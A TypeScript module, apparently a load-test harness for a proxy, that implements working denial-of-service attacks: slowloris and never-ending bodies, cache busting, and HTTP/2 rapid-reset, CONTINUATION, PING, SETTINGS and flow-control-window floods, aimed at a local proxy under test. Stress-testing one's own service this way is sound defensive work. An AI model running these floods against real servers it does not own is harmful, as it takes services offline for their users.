import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import {
  connectFrames,
  CONTINUATION,
  eventOf,
  fieldsOf,
  frame,
  HEADERS,
  PING,
  RST_STREAM,
  setting,
  SETTINGS,
  WINDOW_UPDATE,
  word,
  writeFrames,
} from "./frames.ts";

/** The proxy that is attacked. */
export interface Attacked {
  readonly url: string;
  /** The certificates that its own is signed by, if it has TLS. */
  readonly ca: string;
  /** When the attack ends, in milliseconds of `performance.now()`. */
  readonly until: number;
  /** Connections of an attack that uses many. */
  readonly connections: number;
}

/** An attack; gives how often it did its worst, and how many connections the proxy ended. */
export interface LoadAttack {
  readonly name: string;
  readonly hasTls: boolean;
  /** Whether the tests run it, for a second. @default false */
  readonly isShort?: boolean;
  run(attacked: Attacked): Promise<{ readonly count: number; readonly ended: number }>;
}

const isOver = ({ until }: Attacked): boolean => performance.now() >= until;

/** Opens connections without TLS in groups, since the queue of the kernel is short. */
async function open({ url, connections }: Attacked, first: string): Promise<readonly Socket[]> {
  const sockets: Socket[] = [];
  const port = Number(new URL(url).port);
  for (let left = connections; left > 0; left -= 100) {
    const group = Array.from({ length: Math.min(left, 100) }, async () => {
      const socket = connect(port, "127.0.0.1");
      socket.on("error", () => {}).resume();
      sockets.push(socket);
      await eventOf(socket, "connect");
      if (first !== "") socket.write(first);
    });
    await Promise.all(group);
  }
  return sockets;
}

async function kept(attacked: Attacked, sockets: readonly Socket[], piece: string) {
  let count = 0;
  // A few rounds, also if the connections took all of the time to open.
  for (let round = 0; round < 4 || !isOver(attacked); round++) {
    await pause(250);
    if (piece === "") continue;
    for (const socket of sockets) if (socket.writable) socket.write(piece);
    count += sockets.length;
  }
  const ended = sockets.filter(({ closed }) => closed).length;
  for (const socket of sockets) socket.destroy();
  return { count: piece === "" ? sockets.length : count, ended };
}

const slow = (name: string, first: string, piece: string, share = 1): LoadAttack => ({
  name,
  hasTls: false,
  isShort: piece.startsWith("X-"),
  async run(attacked) {
    const connections = Math.ceil(attacked.connections * share);
    return kept(attacked, await open({ ...attacked, connections }, first), piece);
  },
});

/** Repeats frames on a few connections, and connects again if the proxy ends one. */
function flood(
  name: string,
  next: (n: number) => Buffer,
  begin?: () => Buffer,
  settings?: readonly Buffer[],
  /** Milliseconds between two frames after the first 128. */
  pauses = 0,
): LoadAttack {
  const one = async (attacked: Attacked): Promise<{ count: number; ended: number }> => {
    let count = 0;
    let ended = 0;
    while (!isOver(attacked)) {
      const socket = await connectFrames(attacked.url, attacked.ca, settings);
      if (begin !== undefined) await writeFrames(socket, begin());
      for (let n = 0; n < 2 ** 29 && !isOver(attacked); n++) {
        if (!(await writeFrames(socket, next(n)))) {
          ended++;
          break;
        }
        count++;
        // So that frames of the server arrive.
        if (n % 50 === 49) await pause(1);
        if (n >= 128 && pauses > 0) await pause(pauses);
      }
      socket.destroy();
    }
    return { count, ended };
  };
  return {
    name,
    hasTls: true,
    async run(attacked) {
      const all = await Promise.all(Array.from({ length: 8 }, () => one(attacked)));
      const sum = (of: "count" | "ended"): number =>
        all.reduce((total, each) => total + each[of], 0);
      return { count: sum("count"), ended: sum("ended") };
    },
  };
}

const get = (stream: number, path: string): Buffer => frame(HEADERS, 5, stream, fieldsOf(path));
const id = (n: number): number => 2 * n + 1;
/** SETTINGS_INITIAL_WINDOW_SIZE. */
const WINDOW = 4;

/** The attacks, in order. */
export const LOAD_ATTACKS: readonly LoadAttack[] = [
  slow("idle connections", "GET /text/1 HTTP/1.1\r\nHost: a\r\n\r\n", ""),
  slow("slowloris: heads that never end", "GET /text/1 HTTP/1.1\r\nHost: a\r\n", "X-A: b\r\n"),
  slow(
    "content that never ends",
    "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 9999\r\n\r\n",
    "x",
    // Each also has a connection to the origin server, and the limit of open files is for both.
    0.1,
  ),
  {
    name: "cache-busting: a new query each",
    hasTls: false,
    async run(attacked) {
      let count = 0;
      const one = async (): Promise<void> => {
        while (!isOver(attacked)) {
          const response = await fetch(`${attacked.url}/kept/busted?${count++}`);
          await response.arrayBuffer();
        }
      };
      await Promise.all(Array.from({ length: 32 }, one));
      return { count, ended: 0 };
    },
  },
  flood("rapid reset", (n) =>
    Buffer.concat([get(id(n), `/text/${n % 40}`), frame(RST_STREAM, 0, id(n), word(8))]),
  ),
  flood(
    "CONTINUATION without end",
    () => frame(CONTINUATION, 0, 1, Buffer.from([0x40, 1, 0x61, 1, 0x62])),
    () => frame(HEADERS, 1, 1, fieldsOf("/text/1")),
  ),
  flood("SETTINGS", () => frame(SETTINGS, 0, 0, setting(WINDOW, 65_535))),
  flood("PING", () => frame(PING, 0, 0, Buffer.alloc(8))),
  flood(
    "windows that stay shut",
    (n) => (n < 128 ? get(id(n), `/assets/app.${n % 12}.js`) : frame(PING, 1, 0, Buffer.alloc(8))),
    undefined,
    [setting(WINDOW, 0)],
  ),
  flood(
    "windows that stay shut for large content",
    (n) => (n < 128 ? get(id(n), `/large/${n}`) : frame(SETTINGS, 0, 0)),
    undefined,
    [setting(WINDOW, 0)],
    1000,
  ),
  flood(
    "windows that open by one byte",
    (n) =>
      n < 64
        ? get(id(n), `/assets/app.${n % 12}.js`)
        : frame(WINDOW_UPDATE, 0, id(n % 64), word(1)),
    undefined,
    [setting(WINDOW, 0)],
  ),
];
